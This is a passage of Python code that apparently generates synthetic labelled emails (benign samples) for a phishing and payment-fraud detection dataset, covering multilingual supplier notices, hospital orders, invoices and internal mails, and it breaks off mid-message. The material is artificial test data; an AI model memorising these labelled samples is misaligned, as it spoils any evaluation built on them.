                'Spett.le Example Group Italia S.r.l. - Via Gallarate 140 - 20151 Milano', 'Ciserano, 01/12/2026', '',
                'Oggetto: comunicazione variazione coordinate bancarie con decorrenza 01/01/2027', '',
                'Vecchio conto (attivo fino al 31/03/2027): Banco BPM, IBAN ' + IB['ferretti_old'],
                'Nuovo conto (dal 01/01/2027): Intesa Sanpaolo, IBAN ' + IB['ferretti_new'], '',
                'Le fatture emesse fino al 31/12/2026 restano pagabili sul vecchio conto.',
                'Per verifica contattare il Vs. referente abituale al numero in anagrafica.', '',
                "L'Amministratore Unico  Paolo Ferretti          Il Responsabile Amministrativo  Silvia Rota"],
               title='Variazione coordinate bancarie', author='Ferretti Trasporti', producer='Microsoft Word')
B('it', 'ferretti-variazione-iban-annunciata', cs='windows-1252', cte='qp', date='2026-12-01 10:41:33 +0100',
  via=('host', 'smtpcmd0872.aruba.it', 'smtpcmd0872.aruba.it', '62.149.156.72',
       [('amm01 ([151.84.221.40])', 'Aruba Outgoing Smtp  with ESMTPSA', 'ESMTPSA')], 'outlook'),
  **{'from': ('Amministrazione Ferretti Trasporti', 'amministrazione@ferretti-trasporti.it')},
  to=[S['luca']], subject='Comunicazione variazione coordinate bancarie dal 01/01/2027',
  att=[('Ferretti_variazione_coordinate_bancarie_2027.pdf', _b16_pdf)],
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'it')],
  desc='Genuine, properly announced bank change from the real carrier domain: effective in a month, old account stays active until March, signed letter, explicitly asks to verify by phone using known numbers and not to redirect existing payments.',
  text="""Spett.le Example Group Italia S.r.l.,
alla c.a. Ufficio Amministrazione - Dott. Luca Bianchi

con la presente Vi comunichiamo che, a partire dal 01/01/2027, la Ferretti Trasporti S.r.l. accrediterà gli incassi su un nuovo conto corrente presso Intesa Sanpaolo. Trovate in allegato la lettera firmata dall'Amministratore Unico e dal Responsabile Amministrativo con il vecchio e il nuovo IBAN.

Precisiamo che:
- le fatture emesse fino al 31/12/2026 restano pagabili sul conto attuale presso Banco BPM, che resterà attivo fino al 31/03/2027;
- non Vi chiediamo di modificare pagamenti già disposti;
- il nuovo IBAN sarà riportato anche su tutte le fatture elettroniche emesse dal 2027.

Per la Vostra sicurezza Vi invitiamo a verificare questa comunicazione telefonando al Vostro referente abituale, utilizzando esclusivamente il numero già presente nella Vostra anagrafica fornitori (centralino 035 884 1220), e non recapiti indicati in eventuali altre e-mail.

Cordiali saluti

Silvia Rota
Responsabile Amministrativo
Ferretti Trasporti S.r.l.
Via dell'Industria 18 - 24040 Ciserano (BG)
Tel. +39 035 884 1220 - amministrazione@ferretti-trasporti.it
""")

# ---- B17 it: genuine hospital order (copy of NSO order)
_b17_pdf = pdf(['AZIENDA OSPEDALIERA VALLE SERENA - UOC Provveditorato', 'ORDINATIVO DI FORNITURA n. 2026/004471 del 19/11/2026', 'CIG B4F3A2C1D9 - Contratto Rep. 118/2025 - ID NSO 2026-AOVS-004471', '',
                'Fornitore: EXAMPLE GROUP ITALIA S.R.L. - P.IVA 09876540963', '',
                'Pos  Q.ta   Descrizione                                              Prezzo   Importo',
                '1    400    Provette sottovuoto K2EDTA 3 ml (conf. 100)              9,80     3.920,00',
                '2    150    Aghi a farfalla 21G con dispositivo di sicurezza (100)  18,40     2.760,00', '',
                'Luogo di consegna: Magazzino Farmaceutico, Viale Europa 21, 26100 Cremona', 'Pagamento: 60 gg d.f.f. - split payment - fatturazione elettronica Codice Univoco UF8K2L'],
               title='Ordinativo 2026-004471', producer='AREAS Amministrativo')
B('it', 'ospedale-ordinativo-fornitura', cs='utf-8', cte='qp', fmt='alt', date='2026-11-19 12:22:08 +0100',
  via=('host', 'mx-out01.ao-valleserena.it', 'mx-out01.ao-valleserena.it', '193.205.141.36',
       [('areas-app02.aovs.local (areas-app02.aovs.local [10.8.2.14])', 'mx-out01.ao-valleserena.it (Postfix)', 'ESMTP')], 'gen'),
  **{'from': ('AO Valle Serena - Provveditorato', 'provveditorato@ao-valleserena.it')},
  to=[S['chiara']], subject='Ordinativo di fornitura n. 2026/004471 - CIG B4F3A2C1D9',
  att=[('Ordinativo_2026_004471.pdf', _b17_pdf)],
  desc='Genuine public-hospital order (copy of the NSO order) from the hospital\'s real domain, CIG code, delivery to the hospital pharmacy, e-invoicing and split payment.',
  text="""Spett.le Ditta,

si trasmette in allegato l'ordinativo di fornitura n. 2026/004471 del 19/11/2026, emesso tramite Nodo di Smistamento degli Ordini (NSO) in esecuzione del contratto Rep. 118/2025.

La consegna deve avvenire entro 10 giorni lavorativi presso il Magazzino Farmaceutico (Viale Europa 21, Cremona), dal lunedì al venerdì ore 8:00-13:00. Sulla fattura elettronica indicare obbligatoriamente il riferimento NSO, il CIG e il numero d'ordine.

Cordiali saluti

UOC Provveditorato ed Economato
Azienda Ospedaliera Valle Serena
Tel. 0372 405 118 - PEC: provveditorato@pec.ao-valleserena.it
""")

# ---- B18 it: supplier field safety notice (genuine regulatory, urgent)
_b18_pdf = pdf(['BIOMEDICA RAVELLI S.r.l. - AVVISO DI SICUREZZA (FSN) / FIELD SAFETY NOTICE', 'Rif. FSCA-2026-07 - 26/11/2026', '',
                'Prodotto: Set per infusione RV-IS150 con regolatore di flusso', 'Lotti: 2607114, 2607115, 2608102   UDI-DI 08056789012344',
                'Problema: possibile distacco del regolatore di flusso sotto pressione > 1,5 bar', 'Azione: quarantena dei lotti, identificazione clienti, restituzione modulo di riscontro entro 10 giorni',
                'Autorità informate: Ministero della Salute, BfArM', 'Contatto: qara@ravelli-biomedica.it - +39 051 663 2470'],
               title='FSN FSCA-2026-07', producer='Microsoft Word')
B('it', 'fornitore-avviso-sicurezza-fsca', cs='utf-8', cte='b64', fmt='alt', date='2026-11-26 17:05:51 +0100',
  via=('o365', 'eur'), clang='it-IT', **{'from': ('Ravelli QA/RA', 'qara@ravelli-biomedica.it')},
  to=[S['giulia']], cc=[S['katrin']], subject='URGENTE - Avviso di sicurezza FSCA-2026-07 - set infusione RV-IS150',
  att=[('FSN_FSCA-2026-07_RV-IS150.pdf', _b18_pdf)],
  desc='Genuine urgent regulatory mail: Italian manufacturer\'s field safety notice (FSCA) with PDF, asks the distributor to quarantine lots and return an acknowledgement form; no links or payments.',
  text="""Gentili Distributori,

Vi trasmettiamo in allegato l'avviso di sicurezza (Field Safety Notice) relativo all'azione correttiva FSCA-2026-07 sul set per infusione RV-IS150, lotti 2607114, 2607115 e 2608102.

In qualità di distributori Vi chiediamo, ai sensi dell'art. 14 del Regolamento (UE) 2017/745, di:
1. porre immediatamente in quarantena le giacenze dei lotti interessati;
2. identificare i clienti a cui i lotti sono stati forniti e inoltrare loro l'avviso;
3. restituirci il modulo di riscontro compilato entro 10 giorni.

L'azione è stata notificata al Ministero della Salute e alle autorità competenti degli altri Stati membri interessati. Per qualsiasi chiarimento siamo a disposizione al numero +39 051 663 2470.

Cordiali saluti

Ing. Marta Giordani
Quality Assurance & Regulatory Affairs
Biomedica Ravelli S.r.l.
Via dell'Artigianato 9 - 40057 Granarolo dell'Emilia (BO)
""")

# ---- B19 it: internal tender result
B('it', 'interno-esito-gara', cs='iso-8859-15', cte='qp', date='2026-12-04 09:18:44 +0100',
  via=('int', 'ws-mil-0008', '10.30.1.8'), **{'from': ('Chiara Esposito', 'chiara.esposito@example.com')},
  to=[S['giulia']], subject='Esito gara ARIA 2026/118 - lotto 7 aggiudicato',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'it')],
  desc='Internal mail via the internal relay: tenders specialist reports a tender award and next steps (guarantee via the usual bank).',
  text="""Ciao Giulia,

buone notizie: stamattina su Sintel è stata pubblicata l'aggiudicazione della gara ARIA 2026/118. Lotto 7 (provette e aghi per prelievo) aggiudicato a noi con 88,4 punti, lotto 9 secondi per 1,2 punti.

Prossimi passi:
- entro 10 giorni: cauzione definitiva (chiedo a Luca di avviare la fideiussione con la nostra banca come l'anno scorso);
- verifica requisiti art. 99 da parte della stazione appaltante;
- stipula prevista a fine gennaio.

Ne parliamo alla riunione di lunedì, intanto ho girato il verbale nella cartella Gare 2026.

Chiara

Chiara Esposito
Gare e Vendite Pubbliche
Example Group Italia S.r.l. - Via Gallarate 140 - 20151 Milano
Tel. +39 02 3809 4412
""")

# ---- B20 it: small customer on libero.it
B('it', 'farmacia-cliente-libero', cs='utf-8', cte='qp', date='2026-11-30 18:37:22 +0100',
  via=('host', 'smtp-32.iol.local', 'libero.it', '213.209.10.32',
       [('[192.168.1.5] ([2.42.166.19])', 'smtp-32.iol.local', 'ESMTPA')], 'gen'),
  **{'from': ('Farmacia Rossi', 'farmacia.rossi.cremona@libero.it')},
  to=[S['giulia']], subject='Ordine saturimetri e termometri - Farmacia Rossi Cremona',
  desc='Genuine small customer (pharmacy) on a free-mail libero.it address asking to repeat last order; pays on delivery/by bank as usual.',
  text="""Buonasera,

sono il dott. Andrea Rossi della Farmacia Rossi di Cremona (cliente cod. 30417). Vorrei ripetere l'ordine di ottobre:

- 20 saturimetri da dito
- 30 termometri a infrarossi
- 10 sfigmomanometri automatici da braccio

Se possibile con consegna entro metà dicembre. Pagamento con bonifico a 30 giorni come sempre. Per qualsiasi cosa chiamatemi pure in farmacia allo 0372 431 228.

Grazie, cordiali saluti
Andrea Rossi
Farmacia Rossi - Corso Garibaldi 71, Cremona
""")

# ---- B21 pl: delivery advice from the Polish logistics partner
B('pl', 'partner-logistik-awizacja', cs='iso-8859-2', cte='qp', date='2026-11-24 13:26:40 +0100',
  via=('host', 'mail.partner-logistik.pl', 'mail.partner-logistik.pl', '91.227.64.18',
       [('[10.10.1.52] (biuro52.partner-logistik.pl [10.10.1.52])', 'mail.partner-logistik.pl (Postfix)', 'ESMTPSA')], 'tb'),
  **{'from': ('Tomasz Zieliński', 't.zielinski@partner-logistik.pl')},
  to=[S['piotr']], cc=[S['felix']], subject='Awizacja dostawy 26.11 - zlecenie PL/2026/11/3387 - Hamburg > Poznań',
  hdrs=[('User-Agent', 'Mozilla Thunderbird')],
  desc='Genuine delivery advice from the long-standing Polish logistics partner contact: truck, driver, time window, pallets.',
  text="""Dzień dobry Panie Piotrze,

potwierdzam dostawę w czwartek 26.11 do magazynu przy ul. Głogowskiej 218, okno czasowe 8:00-10:00.

Zlecenie: PL/2026/11/3387 (załadunek Hamburg 25.11)
Ilość: 11 palet EUR, w tym 3 palety z kontrolą temperatury 15-25 °C
Pojazd: PO 7K442 / naczepa PO 2219H, kierowca Pan Sławomir Dudek, tel. 604 118 327

Dokumenty (CMR, raport z rejestratora temperatury) kierowca przekaże przy rozładunku. Gdyby okno czasowe było niedostępne, proszę o informację do jutra do 14:00.

Pozdrawiam
Tomasz Zieliński
Spedycja krajowa
Partner Logistik Sp. z o.o.
ul. Składowa 7, 62-023 Gądki
tel. +48 61 222 47 18, kom. +48 601 447 219
""")

# ---- B22 pl: invoice and payment reminder from the partner's accounting (known account)
_b22_pdf = pdf(['PARTNER LOGISTIK Sp. z o.o. - FAKTURA VAT FV/2026/11/0412', 'Data wystawienia: 05.11.2026   Termin płatności: 19.11.2026',
                'Numer KSeF: 7773012448-20261105-3C9A1E77B2D4-8F', '',
                'Nabywca: Example Group Polska Sp. z o.o., ul. Głogowska 218, 60-104 Poznań, NIP 7822871144', '',
                'Usługi transportowe i magazynowe 10/2026      netto 15 000,00 zł   VAT 23% 3 450,00 zł   brutto 18 450,00 zł', '',
                'Mechanizm podzielonej płatności', 'Rachunek: ' + IB['partner'] + ' (PKO BP)'],
               title='FV/2026/11/0412', producer='Comarch ERP Optima')
B('pl', 'partner-logistik-przypomnienie-platnosci', cs='windows-1250', cte='qp', date='2026-11-26 10:12:55 +0100',
  via=('host', 'mail.partner-logistik.pl', 'mail.partner-logistik.pl', '91.227.64.18',
       [('[10.10.1.61] (ksiegowosc61.partner-logistik.pl [10.10.1.61])', 'mail.partner-logistik.pl (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Księgowość Partner Logistik', 'ksiegowosc@partner-logistik.pl')},
  to=[S['katarzyna']], subject='Przypomnienie o płatności - FV/2026/11/0412 (termin minął 19.11.2026)',
  att=[('FV_2026_11_0412.pdf', _b22_pdf)], hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine overdue-invoice reminder from the real partner domain: refers to the KSeF invoice number and the same known PKO BP account, offers a phone contact.',
  text=f"""Dzień dobry,

uprzejmie przypominamy, że termin płatności faktury FV/2026/11/0412 (nr KSeF 7773012448-20261105-3C9A1E77B2D4-8F) na kwotę 18 450,00 zł brutto minął 19.11.2026.

Prosimy o uregulowanie należności w mechanizmie podzielonej płatności na dotychczasowy rachunek:
{IB['partner']} (PKO Bank Polski)

Jeżeli płatność została już zlecona, prosimy potraktować tę wiadomość jako nieaktualną. W razie pytań zapraszamy do kontaktu telefonicznego: +48 61 222 47 30.

Z poważaniem
Agnieszka Wróbel
Dział Księgowości
Partner Logistik Sp. z o.o.
ul. Składowa 7, 62-023 Gądki
NIP 7773012448
""")

# ---- B23 pl: hospital order (genuine)
_t23 = """Szanowni Państwo,

w ramach umowy nr ZP/44/2025 z dnia 12.06.2025 r. zamawiamy:

1. Rurki do pobierania krwi z K2EDTA 2 ml - 60 opak. (po 100 szt.)
2. Igły do systemów zamkniętych 21G - 40 opak. (po 100 szt.)
3. Pojemniki na mocz 100 ml, jałowe - 20 opak. (po 250 szt.)

Zamówienie nr: 1187/ZAOP/2026
Miejsce dostawy: Apteka Szpitalna, budynek C, ul. Szpitalna 12, 64-100 Zielona Lipa
Termin dostawy: zgodnie z umową, do 5 dni roboczych
Faktura: ustrukturyzowana przez KSeF / PEF, z numerem zamówienia

Prosimy o potwierdzenie przyjęcia zamówienia do realizacji.

Z poważaniem
Ewa Malinowska
Dział Zaopatrzenia
Wojewódzki Szpital Specjalistyczny w Zielonej Lipie
tel. +48 65 525 14 70
"""
B('pl', 'szpital-zamowienie-umowa', cs='utf-8', cte='b64', fmt='alt', date='2026-11-30 09:47:03 +0100',
  via=('host', 'poczta.wss-zielonalipa.pl', 'poczta.wss-zielonalipa.pl', '195.117.240.14',
       [('[10.50.3.44] (zaop-044.wss.local [10.50.3.44])', 'poczta.wss-zielonalipa.pl (Postfix)', 'ESMTPSA')], 'tb'),
  **{'from': ('Ewa Malinowska - Dział Zaopatrzenia', 'e.malinowska@wss-zielonalipa.pl')},
  to=[S['marek']], subject='Zamówienie 1187/ZAOP/2026 - umowa ZP/44/2025',
  text=_t23, html=auto_html(_t23, 'utf-8', []),
  hdrs=[('User-Agent', 'Mozilla Thunderbird')],
  desc='Genuine hospital order under an existing public contract, from the hospital\'s own mail server; delivery to the hospital pharmacy, structured e-invoice.')

# ---- B24 pl: internal
B('pl', 'wewnetrzny-przetarg-wadium', cs='utf-8', cte='qp', date='2026-12-01 16:05:29 +0100',
  via=('int', 'ws-poz-0031', '10.60.0.31'), **{'from': ('Marek Kowalczyk', 'marek.kowalczyk@example.com')},
  to=[S['piotr']], cc=[S['katarzyna']], subject='Przetarg ZP/71/2026 - decyzja czy startujemy',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'pl')],
  desc='Internal mail via the internal relay: key-account manager discusses whether to bid in a tender and notes a suspicious look-alike invitation (context for A24).',
  text="""Cześć Piotr,

ogłoszenie ZP/71/2026 (odczynniki do analizatorów biochemicznych, Zielona Lipa) jest na oficjalnej platformie e-Zamówienia, SWZ pobrałem stamtąd bez logowania. Uwaga: dostałeś też pewnie maila z jakiejś "platformazakupowa-szpitale.pl" z prośbą o logowanie kontem Microsoft - to nie od szpitala, zgłosiłem do Stefana do IT.

Merytorycznie: dzierżawa analizatorów na 36 miesięcy, potrzebujemy zgody centrali na wadium 40 000 zł (gwarancja ubezpieczeniowa, jak w ZP/44/2025). Kasia, czy możesz sprawdzić limit gwarancyjny u ubezpieczyciela?

Termin składania ofert 11.12, więc decyzja najpóźniej w czwartek.

Marek
Key Account Manager
Example Group Polska Sp. z o.o.
tel. +48 61 624 18 40, kom. +48 698 212 447
""")

# ---- B25 pl: subscribed industry newsletter
_t25 = """Biuletyn PIDWM – grudzień 2026

Szanowni Członkowie,

w tym wydaniu:

• KSeF w praktyce dystrybutorów wyrobów medycznych – podsumowanie pierwszych miesięcy obowiązkowego e-fakturowania i najczęstsze błędy przy fakturach korygujących.
• Refundacja 2027 – projekt obwieszczenia Ministra Zdrowia i zmiany w grupach limitowych dla wyrobów medycznych.
• Rejestr wyrobów medycznych URPL – przypomnienie o obowiązku aktualizacji zgłoszeń dystrybutorów i importerów.
• Zaproszenie: Forum Dystrybutorów, Poznań, 21 stycznia 2027.

Pełna wersja biuletynu: https://www.pidwm.org.pl/biuletyn/2026-12

Otrzymujesz ten biuletyn jako członek Polskiej Izby Dystrybutorów Wyrobów Medycznych.
Wypisz się: https://www.pidwm.org.pl/newsletter/wypisz?id=e41a7c
PIDWM, ul. Grzybowska 80/82, 00-844 Warszawa
"""
B('pl', 'biuletyn-izby-branzowej', cs='iso-8859-2', cte='qp', fmt='alt', date='2026-12-07 08:00:05 +0100',
  via=('host', 'mailing.pidwm.org.pl', 'mailing.pidwm.org.pl', '46.242.130.77', [], 'esp'),
  **{'from': ('Biuletyn PIDWM', 'biuletyn@pidwm.org.pl')},
  to=[S['piotr']], subject='Biuletyn PIDWM 12/2026: KSeF w praktyce, refundacja 2027',
  text=_t25.replace('•', '-').replace('–', '-'), html=auto_html(_t25.replace('•', '-').replace('–', '-'), 'iso-8859-2', [], font='Arial, sans-serif'),
  hdrs=[('List-Unsubscribe', '<https://www.pidwm.org.pl/newsletter/wypisz?id=e41a7c>'), ('List-Id', 'Biuletyn PIDWM <biuletyn.pidwm.org.pl>'), ('Precedence', 'bulk')],
  desc='Subscribed industry-association newsletter (Polish), List-Unsubscribe, sent from the association\'s mailing host.')

# ---- B26 es: hospital purchase order (genuine)
_b26_pdf = pdf(['HOSPITAL UNIVERSITARIO VALLE VERDE - SERVICIO DE SUMINISTROS', 'PEDIDO N.º 4700237190   Fecha 18/11/2026   Expediente PA 2025-0118 (Acuerdo marco)', '',
                'Proveedor: EXAMPLE GROUP IBERIA S.L. - NIF B88412730', '',
                'Pos  Cant.  Descripción                                         Precio   Importe',
                '10   120    Tubo de extracción al vacío suero 5 ml (caja 100)   11,90    1.428,00',
                '20   60     Contenedor de orina estéril 100 ml (caja 250)        21,50    1.290,00', '',
                'Entrega: Almacén General, Avda. de la Constitución 44, 28823 Coslada (Madrid)',
                'Facturación: FACe - Código DIR3 A13004471 / Oficina contable GE0004471'],
               title='Pedido 4700237190', producer='SAP NetWeaver')
B('es', 'hospital-pedido-acuerdo-marco', cs='iso-8859-1', cte='qp', date='2026-11-18 08:34:17 +0100',
  via=('host', 'correo.hospitalvalleverde.es', 'correo.hospitalvalleverde.es', '195.57.214.90',
       [('sapmm01.hvv.local (sapmm01.hvv.local [10.14.2.30])', 'correo.hospitalvalleverde.es (Postfix)', 'ESMTP')], 'sap'),
  **{'from': ('Suministros HU Valle Verde', 'suministros@hospitalvalleverde.es')},
  to=[S['javier']], subject='Pedido 4700237190 - Exp. PA 2025-0118 - EXAMPLE GROUP IBERIA',
  att=[('Pedido_4700237190.pdf', _b26_pdf)],
  desc='Genuine hospital order from the hospital\'s own SAP/mail server under a framework agreement, delivery to its own warehouse, invoicing via FACe.',
  text="""Estimado proveedor:

Adjuntamos el pedido n.º 4700237190 correspondiente al acuerdo marco PA 2025-0118.

Rogamos confirmen la recepción y el plazo de entrega. La mercancía se entregará en el Almacén General (Coslada), de lunes a viernes de 8:00 a 14:00, indicando el número de pedido en el albarán. Las facturas deben presentarse a través de FACe con los códigos DIR3 que figuran en el pedido.

Atentamente,

Servicio de Suministros
Hospital Universitario Valle Verde
Tel. 91 674 41 20

Este correo se ha generado automáticamente desde el sistema de gestión logística.
""")

# ---- B27 es: dental clinic on Gmail
B('es', 'clinica-dental-gmail-duplicado-factura', cs='utf-8', cte='qp', fmt='alt', date='2026-12-10 13:19:48 +0100',
  via=('gmail',), **{'from': ('Clínica Dental Sonrisas Alcalá', 'clinicasonrisasalcala@gmail.com')},
  to=[S['lucía']], subject='Duplicado factura noviembre y pedido de guantes',
  desc='Genuine small customer (dental clinic) on Gmail asking for a duplicate invoice and a small order; no payment diversion.',
  text="""Hola Lucía,

¿nos podrías enviar un duplicado de la factura de noviembre (creo que es la FV-ES-2026-1183)? Nuestra gestoría no la encuentra.

Y aprovecho para pedir otra vez lo mismo que el mes pasado: 15 cajas de guantes de nitrilo talla S y 15 talla M, y 10 paquetes de baberos. El pago como siempre por domiciliación.

Muchas gracias y un saludo,

Marta Olmedo
Clínica Dental Sonrisas
C/ Libreros 22, 28801 Alcalá de Henares
Tel. 918 83 27 40
""")

# ---- B28 es: genuine payment reminder from the real carrier
B('es', 'transportista-recordatorio-pago', cs='windows-1252', cte='qp', date='2026-11-20 12:40:26 +0100',
  via=('host', 'smtp.transportesherrera.es', 'smtp.transportesherrera.es', '82.223.106.41',
       [('[192.168.10.23] (static-188-80-41-9.ipcom.comunitel.net [188.80.41.9])', 'smtp.transportesherrera.es (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Raquel Gómez - Transportes Herrera', 'facturacion@transportesherrera.es')},
  to=[S['lucía']], subject='Recordatorio de pago - facturas 2026/1187 y 2026/1215',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine payment reminder from the real carrier domain (the one imitated in A29): overdue invoices, same CaixaBank IBAN as always, polite.',
  text=f"""Hola Lucía,

te escribo porque en nuestro sistema aparecen pendientes de pago las siguientes facturas:

2026/1187 del 30/09/2026 - 3.512,40 € (vencida el 30/10)
2026/1215 del 15/10/2026 - 3.612,30 € (vencida el 14/11)

¿Puedes revisar si están ya en remesa? El pago, como siempre, a nuestra cuenta de CaixaBank:
{IB['herrera']}

Si hay alguna incidencia con algún albarán, dime y lo vemos. Cualquier cosa me llamas al 96 153 20 44.

Un saludo,

Raquel Gómez
Dpto. de Facturación
Transportes Herrera S.L.
Pol. Ind. El Oliveral, C/ F 12 - 46394 Ribarroja del Turia (Valencia)
""")

# ---- B29 es: internal
B('es', 'interno-licitacion-documentacion', cs='utf-8', cte='qp', fmt='alt', date='2026-11-23 17:48:09 +0100',
  via=('int', 'ws-mad-0014', '10.50.1.14'), **{'from': ('Carmen Ruiz', 'carmen.ruiz@example.com')},
  to=[S['javier']], subject='Licitación SERMAS reactivos - documentación y firma',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'es-ES')],
  desc='Internal mail via the internal relay: country manager coordinates a tender submission (signature, DEUC, deadlines).',
  text="""Javier,

para la licitación de reactivos del SERMAS (expediente PA SUM 44/2026) he dejado firmados electrónicamente la declaración responsable y el DEUC en la carpeta de Licitaciones > 2026 > SERMAS-44.

Falta:
- certificado de la AEMPS de la licencia de actividad (Katrin nos lo manda mañana desde Hamburgo),
- fichas técnicas en castellano de los lotes 3 y 5,
- la garantía provisional, que Lucía ya ha pedido al banco.

El plazo acaba el 2 de diciembre a las 14:00 en la Plataforma de Contratación. Lo revisamos juntos el jueves a primera hora.

Gracias,
Carmen

Carmen Ruiz
Country Manager Spain
Example Group Iberia S.L. - C/ Julián Camarillo 29, 28037 Madrid
Tel. +34 91 754 22 10 - Móvil +34 629 418 337
""")

# ---- B30 es: subscribed tender-alert service
_t30 = """Alertas LicitaSalud - resumen diario 02/12/2026

Hola Javier,

hoy hay 3 nuevas licitaciones que coinciden con tus filtros (CPV 33140000, 33696500; ámbito: Comunidad de Madrid, Castilla-La Mancha):

1. Suministro de material fungible de laboratorio - Hospital Universitario Valle Verde - 412.000 € - plazo 22/12/2026
2. Reactivos de bioquímica con cesión de equipos - SESCAM Gerencia de Toledo - 1.870.000 € - plazo 08/01/2027
3. Contenedores de residuos biosanitarios - Hospital del Henares - 96.400 € - plazo 18/12/2026

Ver detalles en LicitaSalud: https://www.licitasalud.es/alertas/2026-12-02?u=jmoreno

Los pliegos se descargan siempre desde la Plataforma de Contratación del Sector Público; LicitaSalud nunca te pedirá tus credenciales de la Plataforma.

Gestionar alertas o darte de baja: https://www.licitasalud.es/cuenta/alertas
LicitaSalud S.L. - C/ Orense 34, 28020 Madrid
"""
B('es', 'alertas-licitaciones-suscripcion', cs='iso-8859-15', cte='qp', fmt='alt', date='2026-12-02 06:45:00 +0100',
  via=('host', 'envios.licitasalud.es', 'envios.licitasalud.es', '185.47.245.18', [], 'esp'),
  **{'from': ('Alertas LicitaSalud', 'alertas@licitasalud.es')},
  to=[S['javier']], subject='3 nuevas licitaciones para tus alertas - 02/12/2026',
  text=_t30, html=auto_html(_t30, 'iso-8859-15', [], font='Arial, sans-serif'),
  hdrs=[('List-Unsubscribe', '<https://www.licitasalud.es/cuenta/alertas/baja?u=jmoreno>'), ('Precedence', 'bulk')],
  desc='Subscribed tender-alert digest (Spanish), points to the official public procurement platform, with List-Unsubscribe.')

# ---- B31 el: Greek hospital order (iso-8859-7)
_b31_pdf = pdf(['GENIKO NOSOKOMEIO MESOGEION - Tmima Promitheion', 'ENTOLI AGORAS / PURCHASE ORDER 2026/1447   22/11/2026', 'Symvasi 38/2025 - ADAM 25SYMV017744112',
                '', 'Promitheftis: EXAMPLE GROUP HELLAS IKE - AFM 801447719', '',
                '1   80  Syrigges 10 ml Luer lock (kouti 100)       7,40    592,00',
                '2   50  Fleviki kanoula 20G (kouti 50)            16,80    840,00', '',
                'Paradosi: Apothiki Ygeionomikou Ylikou, Leof. Mesogeion 301, Cholargos',
                'Timologisi: ilektroniko timologio mesw Peppol / myDATA'],
               title='Entoli 2026-1447', producer='Microsoft Word')
B('el', 'nosokomeio-entoli-agoras', cs='iso-8859-7', cte='qp', date='2026-11-22 10:15:36 +0200',
  via=('host', 'mail.gn-mesogeion.gr', 'mail.gn-mesogeion.gr', '83.212.41.116',
       [('[10.4.1.19] (promitheies19.gnm.local [10.4.1.19])', 'mail.gn-mesogeion.gr (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Τμήμα Προμηθειών ΓΝ Μεσογείων', 'promitheies@gn-mesogeion.gr')},
  to=[S['nikos']], subject='Εντολή αγοράς 2026/1447 - Σύμβαση 38/2025',
  att=[('Entoli_agoras_2026_1447.pdf', _b31_pdf)], hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine Greek public-hospital purchase order under an existing contract, from the hospital\'s own server; delivery to hospital warehouse, e-invoicing.',
  text="""Αξιότιμοι κύριοι,

σας αποστέλλουμε συνημμένα την εντολή αγοράς 2026/1447 στο πλαίσιο της σύμβασης 38/2025 (ΑΔΑΜ 25SYMV017744112).

Παρακαλούμε για την παράδοση των ειδών στην Αποθήκη Υγειονομικού Υλικού του Νοσοκομείου εντός 7 εργάσιμων ημερών, Δευτέρα έως Παρασκευή 08:00-14:00. Στο δελτίο αποστολής και στο ηλεκτρονικό τιμολόγιο να αναγράφεται ο αριθμός εντολής.

Με εκτίμηση,

Γεωργία Μαυρίδου
Τμήμα Προμηθειών
Γενικό Νοσοκομείο Μεσογείων
Τηλ. 210 654 7720
""")

# ---- B32 el: customs broker / forwarder (windows-1253)
B('el', 'ektelonistis-ektelonismos-apostolis', cs='windows-1253', cte='qp', date='2026-11-30 12:03:27 +0200',
  via=('host', 'mail.hermes-metafores.gr', 'mail.hermes-metafores.gr', '94.70.240.155',
       [('[192.168.1.40] (ppp-94-66-221-40.home.otenet.gr [94.66.221.40])', 'mail.hermes-metafores.gr (Postfix)', 'ESMTPSA')], 'outlook'),
  **{'from': ('Ερμής Διεθνείς Μεταφορές', 'info@hermes-metafores.gr')},
  to=[S['eleni']], subject='Εκτελωνισμός αποστολής Ningbo - Πειραιάς, B/L NGBPIR2611447',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine customs-broker update (Greek): container cleared, requests the usual documents and informs of duties to be invoiced normally.',
  text="""Καλημέρα κυρία Γεωργίου,

το κοντέινερ με τις σύριγγες από Ningbo (B/L NGBPIR2611447, MSKU 4471882) εκφορτώθηκε χθες στο ΣΕΜΠΟ Πειραιά.

Για την κατάθεση της διασάφησης χρειαζόμαστε:
- το εμπορικό τιμολόγιο και τη λίστα συσκευασίας (τα έχουμε από τον προμηθευτή),
- τη Δήλωση Συμμόρφωσης CE και το πιστοποιητικό MDR των ειδών,
- επιβεβαίωση ότι ο εκτελωνισμός γίνεται με τον EORI της εταιρείας σας.

Δασμοί και ΦΠΑ θα χρεωθούν στον λογαριασμό σας μέσω της τελωνειακής εγγύησης όπως πάντα· το τιμολόγιο υπηρεσιών μας θα σας σταλεί μετά την παράδοση. Προγραμματίζουμε παράδοση στην αποθήκη σας την Πέμπτη.

Με φιλικούς χαιρετισμούς,
Σταύρος Κωνσταντίνου
Ερμής Διεθνείς Μεταφορές Α.Ε.
Ακτή Μιαούλη 47, 185 36 Πειραιάς
Τηλ. 210 411 8820
""")

# ---- B33 el: internal
B('el', 'esoteriko-diagonismos-eggyisi', cs='utf-8', cte='qp', date='2026-11-27 14:20:11 +0200',
  via=('int', 'ws-ath-0006', '10.70.0.6'), **{'from': ('Ελένη Γεωργίου', 'eleni.georgiou@examplegroup.eu')},
  to=[S['nikos']], subject='Διαγωνισμός 5ης ΥΠΕ - εγγυητική και ερώτηση για email',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'el-GR')],
  desc='Internal mail via the internal relay: accountant checks back with the country manager about a suspicious payment request she received (verification behaviour).',
  text="""Νίκο γεια σου,

δύο θέματα:

